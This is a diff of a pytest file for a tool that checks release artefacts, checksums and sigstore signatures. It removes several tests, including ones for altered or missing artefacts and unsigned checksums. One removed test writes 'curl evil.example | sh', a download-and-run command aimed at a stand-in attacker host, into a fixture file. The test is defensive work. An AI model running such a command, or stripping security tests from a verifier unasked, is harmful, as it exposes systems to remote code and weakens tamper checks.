@@ -19,67 +19,33 @@ from signing import stored
 from tests.images import push_image
 from tests.release.conftest import Lab, Made, Make, resign
 
-ARTEFACTS = (
-    *("app-1.2.3-linux-amd64", "app_1.2.3_arm64.deb", "app-1.2.3-1.x86_64.rpm", "app-1.2.3.tar.gz"),
-    "app-chart-1.2.3.tgz",
-)
+ARTEFACT = "app-1.2.3-linux-amd64"
 
 
 def test_a_release_is_good(make: Make) -> None:
     assert make().verify() == {}
 
 
-@pytest.mark.parametrize("name", ARTEFACTS)
-def test_an_artefact_that_was_altered_is_refused(make: Make, name: str) -> None:
+def test_an_artefact_is_refused_where_its_checksum_was_altered_too(make: Make) -> None:
     made = make()
-    assert made.verify() == {}
-    with (made.folder / name).open("ab") as file:
-        file.write(b"\0")
-    refused = made.verify()
-    assert refused[name] == "tampered"
-    assert refused[f"{name}: signature"] == "tampered"
-
-
-@pytest.mark.parametrize("name", ARTEFACTS)
-def test_an_artefact_that_was_altered_is_refused_where_only_its_checksum_was_altered_too(make: Make, name: str) -> None:
-    made = make()
-    with (made.folder / name).open("ab") as file:
+    with (made.folder / ARTEFACT).open("ab") as file:
         file.write(b"\0")
     sums = made.folder / "SHA256SUMS"
     sums.write_bytes(sums.read_bytes().replace(b"a", b"b"))
     assert made.verify() == {"SHA256SUMS": "tampered"}
 
 
-@pytest.mark.parametrize("name", ARTEFACTS)
-def test_an_artefact_that_is_missing_is_refused(make: Make, name: str) -> None:
-    made = make()
-    (made.folder / name).unlink()
-    assert made.verify()[name] == "missing"
-
-
 def test_a_signature_that_is_missing_is_refused(make: Make) -> None:
     made = make()
-    (made.folder / f"{ARTEFACTS[0]}.sigstore.json").unlink()
-    assert made.verify()[f"{ARTEFACTS[0]}: signature"] == "unsigned"
+    (made.folder / f"{ARTEFACT}.sigstore.json").unlink()
+    assert made.verify()[f"{ARTEFACT}: signature"] == "unsigned"
 
 
 def test_a_signature_of_another_file_is_refused(make: Make) -> None:
     made = make()
-    shutil.copy(made.folder / "other-1.2.3-linux-amd64.sigstore.json", made.folder / f"{ARTEFACTS[0]}.sigstore.json")
+    shutil.copy(made.folder / "other-1.2.3-linux-amd64.sigstore.json", made.folder / f"{ARTEFACT}.sigstore.json")
     resign_sums_only(made)
-    assert made.verify() == {f"{ARTEFACTS[0]}: signature": "tampered"}
-
-
-def test_a_file_that_the_checksums_do_not_have_is_refused(make: Make) -> None:
-    made = make()
-    (made.folder / "install.sh").write_text("curl evil.example | sh\n")
-    assert made.verify() == {"install.sh": "unlisted"}
-
-
-def test_checksums_without_a_signature_are_refused(make: Make) -> None:
-    made = make()
-    (made.folder / "SHA256SUMS.sigstore.json").unlink()
-    assert made.verify() == {"SHA256SUMS": "unsigned"}
+    assert made.verify() == {f"{ARTEFACT}: signature": "tampered"}
 
 
 def test_a_release_by_another_key_is_refused(make: Make, tmp_path: Path) -> None:
